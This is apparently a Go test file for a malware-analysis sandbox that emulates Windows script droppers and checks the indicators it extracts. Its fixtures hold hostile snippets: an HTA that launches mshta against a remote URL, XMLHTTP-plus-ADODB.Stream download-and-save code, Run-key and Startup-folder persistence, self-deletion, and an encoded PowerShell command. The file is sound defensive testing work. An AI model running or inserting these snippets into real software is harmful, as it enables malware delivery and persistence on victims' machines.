package sandbox

import (
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	hostmodulev1 "github.com/athena-mesh/athena/proto/gen/athena/module/v1"
	analysisv1 "github.com/athena-mesh/athena/wasm-modules/internal/gen/athena/analysis/v1"
	modulev1 "github.com/athena-mesh/athena/wasm-modules/internal/gen/athena/module/v1"
	"github.com/athena-mesh/athena/wasm-modules/internal/hostmsg"
	"google.golang.org/protobuf/proto"
)

func readSample(t testing.TB, name string) []byte {
	t.Helper()
	b, err := os.ReadFile("testdata/" + name)
	if err != nil {
		t.Fatalf("read sample: %v", err)
	}
	return b
}

func analyze(t testing.TB, a *Analyzer, req *modulev1.AnalyzeRequest) *modulev1.AnalyzeResponse {
	t.Helper()
	resp, err := a.Analyze(req)
	if err != nil {
		t.Fatalf("Analyze: %v", err)
	}
	return resp
}

func findingIDs(r *modulev1.AnalyzeResponse) []string {
	var ids []string
	for _, f := range r.GetFindings() {
		ids = append(ids, f.GetId())
	}
	return ids
}

func finding(r *modulev1.AnalyzeResponse, id string) *analysisv1.Finding {
	for _, f := range r.GetFindings() {
		if f.GetId() == id {
			return f
		}
	}
	return nil
}

func iocValues(r *modulev1.AnalyzeResponse, typ analysisv1.IOCType) []string {
	var out []string
	for _, i := range r.GetIocs() {
		if i.GetType() == typ {
			out = append(out, i.GetValue())
		}
	}
	return out
}

func attackIDs(r *modulev1.AnalyzeResponse) []string {
	var out []string
	for _, f := range r.GetFindings() {
		for _, a := range f.GetAttackTechniques() {
			if !slices.Contains(out, a) {
				out = append(out, a)
			}
		}
	}
	return out
}

const (
	dropperURL  = "http://evil-cdn.example/files/payload.exe"
	dropperPath = `C:\Users\admin\AppData\Local\Temp\payload.exe`
	dropperCmd  = `cmd.exe /c start "" "C:\Users\admin\AppData\Local\Temp\payload.exe"`
)

func TestDropper(t *testing.T) {
	for _, sample := range []string{"dropper.js", "dropper.obf.js"} {
		t.Run(sample, func(t *testing.T) {
			r := analyze(t, New(), &modulev1.AnalyzeRequest{
				Content: readSample(t, sample), Filename: sample, FileType: "javascript",
				Options: map[string]string{"http_status": "200"},
			})
			if got := iocValues(r, analysisv1.IOCType_IOC_TYPE_URL); !slices.Equal(got, []string{dropperURL}) {
				t.Errorf("URL IOCs = %q, want %q", got, dropperURL)
			}
			if got := iocValues(r, analysisv1.IOCType_IOC_TYPE_COMMAND); !slices.Equal(got, []string{dropperCmd}) {
				t.Errorf("command IOCs = %q, want %q", got, dropperCmd)
			}
			if got := iocValues(r, analysisv1.IOCType_IOC_TYPE_FILE_PATH); !slices.Equal(got, []string{dropperPath}) {
				t.Errorf("file IOCs = %q, want %q", got, dropperPath)
			}
			if got := iocValues(r, analysisv1.IOCType_IOC_TYPE_DOMAIN); !slices.Equal(got, []string{"evil-cdn.example"}) {
				t.Errorf("domain IOCs = %q", got)
			}
			var dropped []*modulev1.Artifact
			for _, a := range r.GetArtifacts() {
				if a.GetKind() == analysisv1.ArtifactKind_ARTIFACT_KIND_DROPPED {
					dropped = append(dropped, a)
				}
			}
			if len(dropped) != 1 || dropped[0].GetFilename() != "payload.exe" || string(dropped[0].GetContent()) != "ATHENA-SANDBOX-FAKE-RESPONSE" {
				t.Errorf("dropped artifacts = %v, want payload.exe with the fake response body", dropped)
			}
			for _, id := range []string{"sandbox.download", "sandbox.file_drop", "sandbox.run_command", "sandbox.execute_dropped", "sandbox.dropper"} {
				if finding(r, id) == nil {
					t.Errorf("finding %s missing; have %q", id, findingIDs(r))
				}
			}
			for _, want := range []string{"T1105", "T1059.007", "T1059.003", "T1204.002"} {
				if !slices.Contains(attackIDs(r), want) {
					t.Errorf("ATT&CK %s missing; have %q", want, attackIDs(r))
				}
			}
			d := r.GetDetails().GetSandbox()
			if len(d.GetNetworkRequests()) != 1 || d.GetNetworkRequests()[0].GetHeaders()["User-Agent"] == "" {
				t.Errorf("network requests = %v, want one with its User-Agent", d.GetNetworkRequests())
			}
			if d.GetEvalLayers() < 2 {
				t.Errorf("eval layers = %d, want >= 2", d.GetEvalLayers())
			}
			if !slices.Contains(d.GetObjectsCreated(), "ADODB.Stream") {
				t.Errorf("objects = %q", d.GetObjectsCreated())
			}
		})
	}
}

func TestDropperDefault404RevealsFallback(t *testing.T) {
	r := analyze(t, New(), &modulev1.AnalyzeRequest{Content: readSample(t, "dropper.js"), FileType: "javascript"})
	if got := iocValues(r, analysisv1.IOCType_IOC_TYPE_URL); !slices.Equal(got, []string{dropperURL}) {
		t.Errorf("URL IOCs = %q", got)
	}
	if finding(r, "sandbox.file_drop") != nil {
		t.Errorf("a 404 answer must not lead to a drop")
	}
	if got := r.GetDetails().GetSandbox().GetNetworkRequests()[0].GetStatus(); got != 404 {
		t.Errorf("status = %d, want 404", got)
	}
	var echoed bool
	for _, e := range r.GetDetails().GetSandbox().GetEvents() {
		echoed = echoed || (e.GetKind() == "echo" && e.GetDetail() == "fallback")
	}
	if !echoed {
		t.Errorf("the fallback branch did not run")
	}
}

func TestBehaviours(t *testing.T) {
	tests := []struct {
		name, fileType, src string
		wantFindings        []string
		wantIOC             map[analysisv1.IOCType]string
		wantLayerContains   string
		wantException       bool
	}{
		{
			name: "run key via RegWrite", fileType: "javascript",
			src:          `var s = WScript.CreateObject("WScript.Shell"); s.RegWrite("HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd", "wscript.exe C:\\x.js", "REG_SZ");`,
			wantFindings: []string{"sandbox.registry_run_key"},
			wantIOC:      map[analysisv1.IOCType]string{analysisv1.IOCType_IOC_TYPE_REGISTRY_KEY: `HKCU\Software\Microsoft\Windows\CurrentVersion\Run\upd`},
		},
		{
			name: "Function constructor layer", fileType: "javascript",
			src:               `var f = new Function("a", "return a + 'x'"); f(1); ({}).constructor.constructor("var q = 'via constructor';")();`,
			wantFindings:      []string{"sandbox.dynamic_code"},
			wantLayerContains: "via constructor",
		},
		{
			name: "setTimeout string and case-insensitive COM", fileType: "javascript",
			src:          `setTimeout("new ActiveXObject('wscript.shell').RUN('powershell -enc AAAA')", 5000);`,
			wantFindings: []string{"sandbox.run_command", "sandbox.dynamic_code"},
			wantIOC:      map[analysisv1.IOCType]string{analysisv1.IOCType_IOC_TYPE_COMMAND: "powershell -enc AAAA"},
		},
		{
			name: "hta script block and document.write", fileType: "hta",
			src:          `<html><head><HTA:APPLICATION id="x"/><script language="VBScript">MsgBox 1</script><script language="JScript">document.write(unescape("%3Cscript%3Enew ActiveXObject('Shell.Application').ShellExecute('mshta.exe','http://1.2.3.4/a.hta')%3C/script%3E"));</script></head></html>`,
			wantFindings: []string{"sandbox.run_command"},
			wantIOC:      map[analysisv1.IOCType]string{analysisv1.IOCType_IOC_TYPE_COMMAND: "mshta.exe http://1.2.3.4/a.hta"},
		},
		{
			name: "wsf with cdata and fso drop in startup", fileType: "wsf",
			src:          `<job><script language="JScript"><![CDATA[ var f = new ActiveXObject("Scripting.FileSystemObject"); var t = f.CreateTextFile(WScript.CreateObject("WScript.Shell").SpecialFolders("Startup") + "\\u.js"); t.WriteLine("x"); t.Close(); ]]></script></job>`,
			wantFindings: []string{"sandbox.file_drop", "sandbox.startup_folder"},
		},
		{
			name: "self delete", fileType: "javascript",
			src:          `new ActiveXObject("Scripting.FileSystemObject").DeleteFile(WScript.ScriptFullName);`,
			wantFindings: []string{"sandbox.self_delete"},
		},
		{
			name: "browser navigation", fileType: "html",
			src:          `<script>window.location.href = "https://phish.example/login?x=1";</script>`,
			wantFindings: []string{"sandbox.download"},
			wantIOC:      map[analysisv1.IOCType]string{analysisv1.IOCType_IOC_TYPE_URL: "https://phish.example/login?x=1"},
		},
		{
			name: "eval depth bomb", fileType: "javascript",
			src:          `function n(d) { return d ? "eval(n(" + (d - 1) + "))" : "1"; } eval(n(60));`,
			wantFindings: []string{"sandbox.resource_limit"}, wantException: true,
		},
		{
			name: "gigabyte repeat is refused", fileType: "javascript",
			src:          `WScript.Echo("before"); var s = "A".repeat(1 << 30);`,
			wantFindings: []string{"sandbox.resource_limit"}, wantException: true,
		},
		{
			name: "syntax error", fileType: "javascript", src: `var = ;`, wantException: true,
		},
		{
			name: "unknown members logged once", fileType: "javascript",
			src:          `var o = new ActiveXObject("Some.Thing"); for (var i = 0; i < 5000; i++) o.Frob; new ActiveXObject("WScript.Shell").Run("after");`,
			wantFindings: []string{"sandbox.run_command"},
		},
		{
			name: "quit stops the script", fileType: "javascript",
			src: `WScript.Quit(); new ActiveXObject("WScript.Shell").Run("calc");`,
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := analyze(t, New(), &modulev1.AnalyzeRequest{Content: []byte(tc.src), FileType: tc.fileType, Filename: "sample.js"})
			for _, id := range tc.wantFindings {
				if finding(r, id) == nil {
					t.Errorf("finding %s missing; have %q (exceptions %q, notes %q)", id, findingIDs(r), r.GetDetails().GetSandbox().GetExceptions(), r.GetNotes())
				}
			}
			if len(tc.wantFindings) == 0 && finding(r, "sandbox.run_command") != nil {
				t.Errorf("unexpected run_command: %q", findingIDs(r))
			}
			for typ, v := range tc.wantIOC {
				if got := iocValues(r, typ); !slices.Contains(got, v) {
					t.Errorf("%v IOCs = %q, want %q", typ, got, v)
				}
			}
			if tc.wantLayerContains != "" {
				var found bool
				for _, a := range r.GetArtifacts() {
					found = found || (a.GetKind() == analysisv1.ArtifactKind_ARTIFACT_KIND_DECODED && strings.Contains(string(a.GetContent()), tc.wantLayerContains))
				}
				if !found {
					t.Errorf("no decoded layer containing %q", tc.wantLayerContains)
				}
			}
			if got := len(r.GetDetails().GetSandbox().GetExceptions()) > 0; got != tc.wantException {
				t.Errorf("exceptions = %q, want some: %v", r.GetDetails().GetSandbox().GetExceptions(), tc.wantException)
			}
		})
	}
}

func TestBudgets(t *testing.T) {
	loops := map[string]string{
		"while true":            `WScript.Echo("start"); while (true) {}`,
		"for without block":     `WScript.Echo("start"); for (;;) x = 1;`,
		"exponential recursion": `WScript.Echo("start"); function f(n) { return n > 60 ? 0 : f(n + 1) + f(n + 1); } f(0);`,
		"loop in eval layer":    `WScript.Echo("start"); eval("while(1){}");`,
		"loop in timer":         `WScript.Echo("start"); setTimeout(function () { for (;;) {} }, 10);`,
	}
	for name, src := range loops {
		for _, budget := range []string{"steps", "time"} {
			t.Run(name+"/"+budget, func(t *testing.T) {
				l := DefaultLimits()
				req := &modulev1.AnalyzeRequest{Content: []byte(src), FileType: "javascript"}
				if budget == "steps" {
					l.MaxSteps = 200_000
				} else {
					l.DeadlineMargin = 0
					req.DeadlineUnixMs = time.Now().Add(200 * time.Millisecond).UnixMilli()
				}
				r := analyze(t, New(WithLimits(l)), req)
				d := r.GetDetails().GetSandbox()
				if !d.GetTimedOut() || finding(r, "sandbox.budget_exceeded") == nil {
					t.Fatalf("timed out = %v, findings %q: want the budget finding", d.GetTimedOut(), findingIDs(r))
				}
				if len(d.GetEvents()) == 0 || d.GetEvents()[0].GetDetail() != "start" {
					t.Errorf("events before the loop were lost: %v", d.GetEvents())
				}
			})
		}
	}
}

func TestBehaviourCap(t *testing.T) {
	l := DefaultLimits()
	l.MaxBehaviours = 50
	// Noise past the cap is dropped but the script runs on to its payload.
	r := analyze(t, New(WithLimits(l)), &modulev1.AnalyzeRequest{
		Content: []byte(`for (var i = 0; i < 500; i++) { WScript.Echo(i); WScript.Sleep(10); } new ActiveXObject("WScript.Shell").Run("payload.exe");`), FileType: "javascript",
	})
	d := r.GetDetails().GetSandbox()
	if !d.GetTruncated() || finding(r, "sandbox.run_command") == nil {
		t.Errorf("noise: truncated = %v, findings %q; want truncated and the payload's command", d.GetTruncated(), findingIDs(r))
	}
	// Significant behaviours past the cap stop the script.
	r = analyze(t, New(WithLimits(l)), &modulev1.AnalyzeRequest{
		Content: []byte(`var s = new ActiveXObject("WScript.Shell"); for (var i = 0; ; i++) s.Run("x" + i);`), FileType: "javascript",
	})
	d = r.GetDetails().GetSandbox()
	if !d.GetTruncated() || len(d.GetCommands()) != 49 {
		t.Errorf("significant: truncated = %v, commands = %d; want true, 49 (plus the object creation)", d.GetTruncated(), len(d.GetCommands()))
	}
}

// recordingEmitter collects fragments the way the host does: merged in order.
type recordingEmitter struct{ fragments []*modulev1.AnalyzeResponse }

func (e *recordingEmitter) Emit(f *modulev1.AnalyzeResponse) {
	e.fragments = append(e.fragments, f.CloneVT())
}

func TestEmittedFragmentsAddUpToTheResult(t *testing.T) {
	req := &modulev1.AnalyzeRequest{Content: readSample(t, "dropper.js"), FileType: "javascript", Options: map[string]string{"http_status": "200"}}
	whole := analyze(t, New(), req)
	e := &recordingEmitter{}
	final := analyze(t, New(WithEmitter(e)), req)
	if len(e.fragments) == 0 {
		t.Fatalf("no fragments emitted")
	}
	merged := &hostmodulev1.AnalyzeResponse{}
	for _, f := range e.fragments {
		proto.Merge(merged, hostmsg.ToHost[hostmodulev1.AnalyzeResponse](t, f))
	}
	proto.Merge(merged, hostmsg.ToHost[hostmodulev1.AnalyzeResponse](t, final))
	if !proto.Equal(merged, hostmsg.ToHost[hostmodulev1.AnalyzeResponse](t, whole)) {
		t.Errorf("fragments + final differ from the unstreamed result:\n%v\nvs\n%v", merged, whole)
	}
}

func TestRunsAreIndependent(t *testing.T) {
	a := New()
	first := analyze(t, a, &modulev1.AnalyzeRequest{Content: []byte(`var leaked = new ActiveXObject("WScript.Shell"); leaked.Run("calc.exe");`), FileType: "javascript"})
	second := analyze(t, a, &modulev1.AnalyzeRequest{Content: []byte(`if (typeof leaked !== "undefined") leaked.Run("again");`), FileType: "javascript"})
	if finding(first, "sandbox.run_command") == nil || len(second.GetFindings()) != 0 {
		t.Errorf("state leaked between runs: first %q, second %q", findingIDs(first), findingIDs(second))
	}
}

func TestBadOption(t *testing.T) {
	if _, err := New().Analyze(&modulev1.AnalyzeRequest{Content: []byte("1"), Options: map[string]string{"http_status": "abc"}}); err == nil {
		t.Errorf("want an error for a bad http_status")
	}
}

func TestInstrument(t *testing.T) {
	tests := []struct{ name, src, want string }{
		{"while block", "while(true){}", "while(true){__athena_t();}"},
		{"for statement", "for(;;) x++;", "for(;;) {__athena_t();x++\n};"},
		{"function and eval", "function f(a){return eval(a)}", "function f(a){__athena_t();return eval(__athena_L(a,1))}"},
		{"non-ascii offsets", "var é='ü';eval(é)", "var é='ü';eval(__athena_L(é,1))"},
		{"member eval", "w.eval((b))", "w.eval(__athena_L((b),1))"},
		{"parenthesized operand", "eval('a'+(b+c))", "eval(__athena_L('a'+(b+c),1))"},
		{"two arguments", "eval((a) , 2)", "eval(__athena_L((a),1) , 2)"},
		{"non-ascii identifier among two arguments", "eval(é,1)", "eval(__athena_L(é,1),1)"},
		{"parenthesized loop body", "while(1) (x)\n;", "while(1) {__athena_t();(x)\n}\n;"},
		{"arrow", "x=()=>{y()}", "x=()=>{__athena_t();y()}"},
		{"do while statement body stays", "do x++; while(0)", "do x++; while(0)"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got, ok := instrument(tc.src, 0)
			if !ok || got != tc.want {
				t.Errorf("instrument(%q) = %q, %v; want %q", tc.src, got, ok, tc.want)
			}
		})
	}
	if _, ok := instrument("var = ;", 0); ok {
		t.Errorf("a syntax error must report ok=false")
	}
}

func FuzzInstrument(f *testing.F) {
	for _, s := range []string{"while(1){}", "for(;;)x++", "do{}while(0)", "eval(eval('1'))", "function f(){return ()=>{for(a of b)c()}}", "label: for (var k in o) continue label;"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		out, ok := instrument(src, 0)
		if !ok && out != src {
			t.Fatalf("failed instrumentation must return the source")
		}
	})
}

// FuzzAnalyze drives the emulation surface: any script, any file type, within small budgets.
func FuzzAnalyze(f *testing.F) {
	f.Add([]byte(`new ActiveXObject("WScript.Shell").Run("x")`), "javascript")
	f.Add([]byte(`var x = new ActiveXObject("MSXML2.XMLHTTP"); x.open("GET","http://a/b"); x.send(); var s = new ActiveXObject("ADODB.Stream"); s.Open(); s.Write(x.responseBody); s.SaveToFile("c:\\a.exe")`), "javascript")
	f.Add([]byte(`<script>document.write("<script>eval('1')<\/script>")</script>`), "html")
	f.Add([]byte(`<job><script language="JScript">WScript.Echo(WScript.Arguments.length)</script></job>`), "wsf")
	f.Add([]byte(`Function("return this")().eval("while(1);")`), "")
	f.Add([]byte{0xff, 0xfe, 'x', 0}, "javascript")
	l := DefaultLimits()
	l.MaxSteps = 20_000
	l.DefaultBudget = 500 * time.Millisecond
	l.MaxBehaviours = 100
	a := New(WithLimits(l))
	f.Fuzz(func(t *testing.T, content []byte, fileType string) {
		r, err := a.Analyze(&modulev1.AnalyzeRequest{Content: content, FileType: fileType})
		if err != nil {
			t.Fatalf("Analyze: %v", err)
		}
		hostmsg.ToHost[hostmodulev1.AnalyzeResponse](t, r) // the host can decode what the module returns
	})
}
